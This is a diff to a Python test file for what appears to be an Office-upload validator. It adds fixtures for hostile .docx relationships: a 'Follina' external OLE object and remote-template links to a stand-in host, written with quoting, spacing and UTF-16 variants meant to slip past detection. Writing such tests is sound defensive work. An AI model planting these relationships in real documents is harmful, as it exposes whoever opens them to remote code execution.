@@ -52,11 +52,14 @@ def real_xlsx() -> bytes:
 
 
 def altered(package: bytes, *, add: dict[str, bytes] = (), content_types=None) -> bytes:
-    """The Office file with parts added and [Content_Types].xml rewritten by `content_types`."""
+    """The Office file with parts added (or replaced) and [Content_Types].xml rewritten by
+    `content_types`."""
     source = zipfile.ZipFile(io.BytesIO(package))
     buffer = io.BytesIO()
     with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
         for info in source.infolist():
+            if info.filename in dict(add):
+                continue
             data = source.read(info)
             if info.filename == "[Content_Types].xml" and content_types:
                 data = content_types(data)
@@ -91,6 +94,38 @@ SETTINGS_RELS_WITH_REMOTE_TEMPLATE = (
     b'relationships/attachedTemplate" Target="http://203.0.113.9/template.dotm" '
     b'TargetMode="External"/></Relationships>'
 )
+
+
+def relationships(*, type_: str, target: str, quote: str = '"', spaced: bool = False) -> str:
+    """A .rels part with one relationship, its attributes quoted and spaced as given (all
+    valid XML, read alike by Office)."""
+    equals = " = " if spaced else "="
+    return (
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        f"<Relationship Id{equals}{quote}rId9{quote} "
+        f"Type{equals}{quote}http://schemas.openxmlformats.org/officeDocument/2006/"
+        f"relationships/{type_}{quote} Target{equals}{quote}{target}{quote} "
+        f"TargetMode{equals}{quote}External{quote}/></Relationships>"
+    )
+
+
+#: The "Follina" pattern: an external OLE object in the document's own relationships.
+FOLLINA_RELS = relationships(type_="oleObject", target="http://203.0.113.9/x.html!").encode()
+REMOTE_TEMPLATE_SINGLE_QUOTED = relationships(
+    type_="attachedTemplate", target="http://203.0.113.9/t.dotm", quote="'"
+).encode()
+REMOTE_TEMPLATE_SPACED = relationships(
+    type_="attachedTemplate", target="http://203.0.113.9/t.dotm", spaced=True
+).encode()
+REMOTE_TEMPLATE_UTF16 = (
+    relationships(type_="attachedTemplate", target="http://203.0.113.9/t.dotm")
+    .replace('encoding="UTF-8"', 'encoding="UTF-16"')
+    .encode("utf-16")
+)
+EXTERNAL_HYPERLINK = relationships(
+    type_="hyperlink", target="https://dongda.hanoi.gov.vn/"
+).encode()
 
 
 def session_data(**overrides):
@@ -265,6 +300,28 @@ def test_download_name(display_name, kind, expected):
             ),
             id="remote-template",
         ),
+        pytest.param(
+            "bien-ban.docx",
+            altered(real_docx(), add={"word/_rels/document.xml.rels": FOLLINA_RELS}),
+            id="external-ole-object-follina",
+        ),
+        pytest.param(
+            "bien-ban.docx",
+            altered(
+                real_docx(), add={"word/_rels/settings.xml.rels": REMOTE_TEMPLATE_SINGLE_QUOTED}
+            ),
+            id="remote-template-single-quoted",
+        ),
+        pytest.param(
+            "bien-ban.docx",
+            altered(real_docx(), add={"word/_rels/settings.xml.rels": REMOTE_TEMPLATE_SPACED}),
+            id="remote-template-spaced",
+        ),
+        pytest.param(
+            "bien-ban.docx",
+            altered(real_docx(), add={"word/_rels/settings.xml.rels": REMOTE_TEMPLATE_UTF16}),
+            id="remote-template-utf16",
+        ),
     ],
 )
 def test_office_files_with_macros_or_programs_are_refused(
@@ -289,6 +346,10 @@ def test_office_files_with_macros_or_programs_are_refused(
                 add={"word/embeddings/Microsoft_Excel_Worksheet.xlsx": real_xlsx()},
             ),
             id="docx-with-a-chart's-sheet",
+        ),
+        pytest.param(
+            altered(real_docx(), add={"word/_rels/footnotes.xml.rels": EXTERNAL_HYPERLINK}),
+            id="docx-with-a-link-to-a-web-page",
         ),
     ],
 )
